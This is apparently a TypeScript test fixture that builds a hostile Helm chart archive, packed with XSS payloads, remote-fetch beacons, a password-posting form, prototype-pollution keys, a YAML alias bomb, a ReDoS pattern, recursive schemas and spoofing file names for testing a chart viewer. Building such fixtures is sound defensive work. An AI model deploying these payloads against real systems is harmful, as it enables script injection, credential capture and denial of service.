/**
 * One chart with all that a chart from elsewhere may be made of to run something, to fetch something, or to bring a reader to his
 * knees. What one file can't hold is in charts within. Every address in it is the one that it is made for, where nobody may come by.
 */
import { rawTgz, type RawEntry } from './tar-bytes';

export interface HostileChart {
  readonly archive: Buffer;
  /** What the config blob says: the same as its Chart.yaml. */
  readonly metadata: object;
}

/** In its folder `files`. */
export const HOSTILE_NAMES = {
  turned: 'files/\u202egnp.exe',
  controls: 'files/ring\u0007 \u001b[31mred\nline.txt',
  long: `files/${'n'.repeat(3_994)}`,
} as const;

const IN_ONE_FILE = 4_950_000;

/** `host`: `address:port`. */
export function hostileChart(host: string): HostileChart {
  const metadata = {
    apiVersion: 'v2',
    name: 'hostile',
    version: '1.0.0',
    description: '\u202e<img src=x onerror="globalThis.ran = 1"> turned around',
    icon: `http://${host}/icon.png`,
    home: 'javascript:globalThis.ran=1',
    sources: [`http://${host}/source`, 'data:text/html,<script>globalThis.ran = 1</script>'],
    maintainers: [{ name: '<b>Eve</b>', email: 'eve@example.test', url: `http://${host}/eve` }],
    annotations: { note: '<script>globalThis.ran = 1</script>', 'artifacthub.io/changes': '- &a [*a]' },
    dependencies: [{ name: 'lib', version: '^1.0.0', repository: `oci://${host}/charts` }],
  };
  const archive = rawTgz([
    { name: 'hostile/Chart.yaml', content: JSON.stringify(metadata) },
    { name: 'hostile/README.md', content: readme(host) },
    { name: 'hostile/values.yaml', content: VALUES },
    { name: 'hostile/values.schema.json', content: JSON.stringify(schema(host)) },
    { name: 'hostile/templates/map.yaml', content: 'kind: ConfigMap\ndata: {a: {{ .Values.a }}}\n' },
    ...within('bomb', { name: 'values.yaml', content: bomb() }),
    ...within('latin', { name: 'values.yaml', content: Buffer.from('# gr\u00f6\u00dfe\nsize: gro\u00df\n', 'latin1') }),
    ...within('line', { name: 'values.yaml', content: `a: 1\nlong: "${'x'.repeat(IN_ONE_FILE)}"\n` }),
    ...within('maze', { name: 'values.schema.json', content: JSON.stringify(maze()) }),
    ...within('tab', { name: 'values.yaml', content: 'a: 1\nb:\n\tc: 2\n' }),
    { name: 'hostile/files/binary.yaml', content: Buffer.from([0, 1, 2, 3]) },
    { name: 'hostile/files/latin.txt', content: Buffer.from('gr\u00f6\u00dfe', 'latin1') },
    { name: 'hostile/files/page.html', content: `<script>globalThis.ran = 1</script><img src="http://${host}/h">` },
    {
      name: 'hostile/files/picture.svg',
      content: `<svg xmlns="http://www.w3.org/2000/svg" onload="globalThis.ran = 1"><image href="http://${host}/i"/></svg>`,
    },
    ...Object.values(HOSTILE_NAMES).flatMap((name) => named(`hostile/${name}`, `in ${name.slice(6, 20)}`)),
  ]);
  return { archive, metadata };
}

/** A chart in a folder, with one file. */
function within(name: string, { name: fileName, content = '' }: RawEntry): readonly RawEntry[] {
  return [
    { name: `hostile/charts/${name}/Chart.yaml`, content: `apiVersion: v2\nname: ${name}\nversion: 1.0.0\n` },
    { name: `hostile/charts/${name}/${fileName}`, content },
  ];
}

/** An entry whose name no header holds. */
function named(path: string, content: string): readonly RawEntry[] {
  const record = ` path=${path}\n`;
  const bytes = Buffer.byteLength(record);
  const length = bytes + String(bytes + String(bytes).length).length;
  return [
    { name: 'PaxHeaders/x', type: 'x', content: `${length}${record}` },
    { name: 'hostile/x', content },
  ];
}

const VALUES = `a: 1
__proto__: {polluted: yes}
constructor: {prototype: {polluted: yes}}
base: &base {x: 1}
merged: {<<: *base, y: 2}
# <img src=x onerror="globalThis.ran = 1">
"<script>globalThis.ran = 1</script>": "\u202ex"
a: 3
`;

function bomb(): string {
  const lines = Array.from({ length: 9 }, (_none, at) => {
    const items = at === 0 ? 'x' : Array.from({ length: 9 }, () => `*a${at - 1}`).join(', ');
    return `a${at}: &a${at} [${items}]\n`;
  });
  return lines.join('');
}

function schema(host: string): object {
  const links = Array.from({ length: 2_000 }, (_none, at): [string, object] => [
    `link${at}`,
    { $ref: `#/definitions/link${at + 1}` },
  ]);
  return {
    $schema: `http://${host}/meta.json`,
    properties: {
      a: { type: 'integer', description: `<img src="http://${host}/d" onerror="globalThis.ran = 1">` },
      chain: { $ref: '#/definitions/link0' },
      elsewhere: { $ref: `http://${host}/schema.json` },
      itself: { $ref: '#/properties/itself' },
      tree: { $ref: '#/definitions/node' },
      slow: { type: 'string', pattern: '^(a+)+$' },
    },
    definitions: {
      ...Object.fromEntries(links),
      node: { type: 'object', properties: { child: { $ref: '#/definitions/node' } } },
    },
  };
}

/** Every way through it leads into all of it again. */
function maze(): object {
  const names = Array.from({ length: 30 }, (_none, at) => `n${at}`);
  const properties = Object.fromEntries(names.map((name) => [name, { $ref: `#/$defs/${name}` }]));
  return { properties, $defs: Object.fromEntries(names.map((name) => [name, { properties }])) };
}

/** All that the world has tried, and then 5 MB of it. */
function readme(host: string): string {
  const attacks = `# Hostile

<script>globalThis.ran = 'script'</script><script src="http://${host}/a.js"></script>
<img src="x" onerror="globalThis.ran = 'onerror'"><img src="http://${host}/a.png">![a](http://${host}/b.png)
<svg onload="globalThis.ran = 'svg'"><script>globalThis.ran = 'svg script'</script><image href="http://${host}/c.png"/></svg>
<style>@import url(http://${host}/a.css); @font-face{font-family:x;src:url(http://${host}/a.woff)} body{background:url(http://${host}/d.png)}</style>
<p style="background:url(http://${host}/e.png)" onclick="globalThis.ran='click'">styled</p>
<form action="http://${host}/form"><input name="password" autofocus onfocus="globalThis.ran='focus'"><button>Send</button></form>
<iframe src="http://${host}/frame" srcdoc="<script>parent.ran='frame'</script>"></iframe>
<object data="http://${host}/o"></object><embed src="http://${host}/em"><link rel="stylesheet" href="http://${host}/l.css">
<meta http-equiv="refresh" content="0;url=http://${host}/refresh"><base href="http://${host}/">
<video src="http://${host}/v" poster="http://${host}/p"></video><audio src="http://${host}/au" autoplay></audio>
<a href="javascript:globalThis.ran='link'" id="root" name="body">script link</a>
<a href="data:text/html,<script>parent.ran=1</script>">data link</a> <a href="http://${host}/plain" target="_blank">plain link</a>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.ran='mxss'&gt;"></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=globalThis.ran='noscript'>"></noscript>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"> <b>b\u202eold\u0007</b>
<input type="image" src="http://${host}/input.png"><table background="http://${host}/t.png"><tr><td>cell</td></tr></table>

[md](javascript:globalThis.ran='md')

${'> '.repeat(200)}deep

The attacks end.

`;
  const more = `<img src="http://${host}/more.png" onerror="globalThis.ran = 'more'"> ${'and so on, '.repeat(900)}\n\n`;
  return `${attacks}${more.repeat(Math.floor(IN_ONE_FILE / more.length))}`;
}
